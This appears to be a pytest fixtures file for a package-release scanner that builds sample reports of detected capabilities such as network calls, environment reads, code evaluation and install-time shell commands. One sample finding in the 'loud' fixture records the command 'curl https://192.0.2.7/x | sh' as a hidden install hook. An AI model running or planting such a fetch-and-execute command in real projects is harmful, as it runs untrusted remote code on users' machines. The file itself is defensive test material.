"""A release with something in every part of a report."""

import pytest

from tidewaiter.catalogue import Catalogue, load
from tidewaiter.model.member import Anomaly
from tidewaiter.model.phase import Gate, Phase
from tidewaiter.model.profile import Edge, EntryPoint, Place, Step, Use
from tidewaiter.model.release import ArtifactKind, Dependency, Ecosystem, Release
from tidewaiter.model.report import ArtifactReport, Engine, Report, SkippedMember, Stats, Unread


@pytest.fixture(scope="session")
def catalogue() -> Catalogue:
    return load()


def use(capability: str, phase: Phase, member: str, line: int, **more: object) -> Use:
    defaults: dict[str, object] = {
        "api": "module.function",
        "entry": "import acme",
        "column": 4,
        "snippet": "function(x)",
        "path": (Step("<module>", member, line, Edge.EXACT),),
        "places": (Place("acme-1.2.0-py3-none-any.whl", member),),
    }
    fields = defaults | more
    return Use(capability=capability, phase=phase, member=member, line=line, **fields)  # type: ignore[arg-type]


def release(**changes: object) -> Report:
    """A full report; ``changes`` replace its fields."""
    url = "https://192.0.2.7/collect"
    way = (
        Step("fetch", "acme/core.py", 12, Edge.EXACT),
        Step("Client.get", "acme/client.py", 40, Edge.LIKELY),
    )
    fields: dict[str, object] = {
        "engine": Engine("0.1.0", "sha256:" + "0" * 64),
        "release": Release(
            "pkg:pypi/acme@1.2.0", Ecosystem.PYPI, "acme", "1.2.0", "2026-05-01T10:00:00Z"
        ),
        "artifacts": (
            ArtifactReport(
                filename="acme-1.2.0-py3-none-any.whl",
                kind=ArtifactKind.WHEEL,
                sha256="a" * 64,
                size=18_236,
                inspected=True,
                members=41,
                bytes=190_244,
                complete=True,
            ),
        ),
        "uses": (
            use("net.connect", Phase.CALL, "acme/client.py", 40, api="urllib.request.urlopen",
                entry="acme.core.fetch()", destination=url, destination_kind="url",
                arguments={"url": url}, snippet="urlopen(url)", path=way),
            use("net.connect", Phase.CALL, "acme/client.py", 55, api="urllib.request.urlopen",
                entry="acme.core.send()", path=way),
            use("fs.read", Phase.IMPORT, "acme/__init__.py", 3, api="builtins.open"),
            use("env.read", Phase.IMPORT, "acme/__init__.py", 4, api="os.environ",
                destination="ACME_HOME", destination_kind="variable"),
            use("process.spawn", Phase.TEST, "tests/test_core.py", 9, api="subprocess.run"),
        ),
        "entry_points": (EntryPoint(Phase.BIN, "acme", "acme.cli:main"),),
        "dependencies": (Dependency("pkg:pypi/requests", ">=2", "runtime"),),
        "stats": Stats(1.25, 0),
    }  # fmt: skip
    return Report(**(fields | changes))  # type: ignore[arg-type]


@pytest.fixture
def report() -> Report:
    """Quiet before it is called, read whole."""
    return release()


@pytest.fixture
def loud() -> Report:
    """Something to say in every section, not read whole."""
    whole = release()
    shell = use("process.shell", Phase.INSTALL, "setup.py", 22, api="os.system",
                entry="pip install (from source)", destination="curl https://192.0.2.7/x | sh",
                destination_kind="command", layers=("base64",), layer_line=1,
                condition="sys.platform == 'win32'", gate=Gate.FROM_SOURCE)  # fmt: skip
    lazy = use(
        "code.eval", Phase.IMPORT, "acme/_x.py", 1, api="builtins.exec", origin=("minified",)
    )
    lost = use(
        "fs.delete", Phase.CALL, "acme/old.py", 7, api="os.remove", path=(), origin=("unreached",)
    )
    artifact = ArtifactReport(
        filename="acme-1.2.0.tar.gz",
        kind=ArtifactKind.SDIST,
        sha256="b" * 64,
        size=20_000,
        inspected=True,
        members=50,
        bytes=200_000,
        complete=False,
        anomalies=(Anomaly("duplicate-member", "acme/x.py", "the second one wins"),),
        unread=(Unread("native", 3, 81_234, Phase.IMPORT),),
        skipped=(SkippedMember("acme/big.js", "over 5 MB parsed", None),),
    )
    other = ArtifactReport(
        filename="acme-1.2.0-cp311-cp311-win32.whl",
        kind=ArtifactKind.WHEEL,
        sha256="c" * 64,
        size=10,
        inspected=False,
    )
    return release(
        artifacts=(*whole.artifacts, artifact, other),
        uses=(*whole.uses, shell, lazy, lost),
        entry_points=(
            EntryPoint(Phase.INSTALL, "setup.py", "setup.py", Gate.FROM_SOURCE),
            *whole.entry_points,
        ),
    )
